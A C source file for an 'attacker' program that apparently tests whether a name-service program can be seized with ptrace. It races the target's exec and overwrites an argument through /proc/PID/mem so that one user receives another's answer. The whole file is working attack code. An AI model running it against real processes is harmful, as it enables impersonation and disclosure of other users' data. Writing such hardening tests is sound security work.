// SPDX-License-Identifier: MIT
//
// What a caller can try on the name-service program, which runs under his own uid:
//
//   attacker loading|hanging TRIES OLD NEW PROGRAM ARG...
//
// It starts PROGRAM, stops it with ptrace and puts NEW in the place of the argument OLD, of the same
// length: so one user is answered with what another one has. "loading" strikes between the exec and
// main, "hanging" once PROGRAM has written to stderr. It tries until it succeeds or TRIES are over,
// then says how the last try went:
//
//   seize: ok|CAUSE
//   memory: ok|CAUSE
//   answer: what PROGRAM then printed, if it ended

#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

struct victim {
  pid_t pid;
  int executed; // ends when the exec has happened
  int answer;
  int hanging;
};

static void fail(const char *what) {
  perror(what);
  exit(1);
}

// Parent and child share one processor and the child yields it at once, so that the parent runs
// right after the exec.
static void share_processor(void) {
  cpu_set_t set;

  CPU_ZERO(&set);
  CPU_SET((size_t)sched_getcpu(), &set);
  if (sched_setaffinity(0, sizeof set, &set) != 0)
    fail("sched_setaffinity");
}

static struct victim start(char **argv) {
  int executed[2], answer[2], errors[2];
  char *environment[] = {NULL};

  if (pipe2(executed, O_CLOEXEC) != 0 || pipe2(answer, O_CLOEXEC) != 0 || pipe2(errors, O_CLOEXEC) != 0)
    fail("pipe2");
  pid_t pid = fork();
  if (pid < 0)
    fail("fork");
  if (pid == 0) {
    const struct sched_param idle = {0};

    dup2(answer[1], STDOUT_FILENO);
    dup2(errors[1], STDERR_FILENO);
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    sched_setscheduler(0, SCHED_IDLE, &idle);
    execve(argv[0], argv, environment);
    _exit(127);
  }
  close(executed[1]);
  close(answer[1]);
  close(errors[1]);
  return (struct victim){pid, executed[0], answer[0], errors[0]};
}

static const char *outcome(bool good) { return good ? "ok" : strerror(errno); }

// Where the arguments lie: the field arg_start of /proc/PID/stat, which is 0 for who may not trace.
static off_t argument_address(pid_t pid) {
  char path[64], line[1024];
  unsigned long address = 0;

  snprintf(path, sizeof path, "/proc/%d/stat", pid);
  FILE *stat = fopen(path, "re");
  if (stat == NULL)
    return 0;
  size_t length = fread(line, 1, sizeof line - 1, stat);
  line[length] = '\0';
  fclose(stat);
  const char *field = strrchr(line, ')');
  for (int number = 2; field != NULL && number < 48; number++)
    field = strchr(field + 1, ' ');
  if (field != NULL)
    address = strtoul(field + 1, NULL, 10);
  return (off_t)address;
}

static bool replace_argument(pid_t pid, char **argv, const char *old, const char *new) {
  char path[64];
  off_t address = argument_address(pid);

  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int memory = open(path, O_RDWR | O_CLOEXEC);
  if (memory < 0)
    return false;
  for (; *argv != NULL && strcmp(*argv, old) != 0; argv++)
    address += (off_t)strlen(*argv) + 1;
  bool written = pwrite(memory, new, strlen(new), address) == (ssize_t)strlen(new);
  close(memory);
  return written;
}

// One try. Fills report and says whether the program was in our hands.
static bool attack(bool loading, char **argv, const char *old, const char *new, char *report, size_t size) {
  struct victim victim = start(argv);
  char answer[256] = "", byte;
  int status;

  if (read(loading ? victim.executed : victim.hanging, &byte, 1) < 0)
    fail("read");
  bool seized = ptrace(PTRACE_SEIZE, victim.pid, NULL, NULL) == 0;
  int length = snprintf(report, size, "seize: %s\n", outcome(seized));
  if (seized && (ptrace(PTRACE_INTERRUPT, victim.pid, NULL, NULL) != 0 || waitpid(victim.pid, &status, 0) < 0))
    fail("PTRACE_INTERRUPT");
  bool replaced = replace_argument(victim.pid, argv, old, new);
  length += snprintf(report + length, size - (size_t)length, "memory: %s\n", outcome(replaced));
  if (seized && ptrace(PTRACE_DETACH, victim.pid, NULL, NULL) != 0)
    fail("PTRACE_DETACH");

  if (!loading)
    kill(victim.pid, SIGKILL);
  for (ssize_t got = 0, n; (n = read(victim.answer, answer + got, sizeof answer - 1 - (size_t)got)) > 0;)
    got += n;
  waitpid(victim.pid, &status, 0);
  if (loading)
    snprintf(report + length, size - (size_t)length, "answer: %s", answer);
  close(victim.executed);
  close(victim.answer);
  close(victim.hanging);
  return seized && replaced;
}

int main(int argc, char **argv) {
  char report[1024] = "";

  if (argc < 6 || strlen(argv[3]) != strlen(argv[4])) {
    fputs("usage: attacker loading|hanging TRIES OLD NEW PROGRAM ARG...\n", stderr);
    return 2;
  }
  share_processor();
  for (int tries = atoi(argv[2]); tries > 0; tries--)
    if (attack(strcmp(argv[1], "loading") == 0, argv + 5, argv[3], argv[4], report, sizeof report))
      break;
  fputs(report, stdout);
  return 0;
}
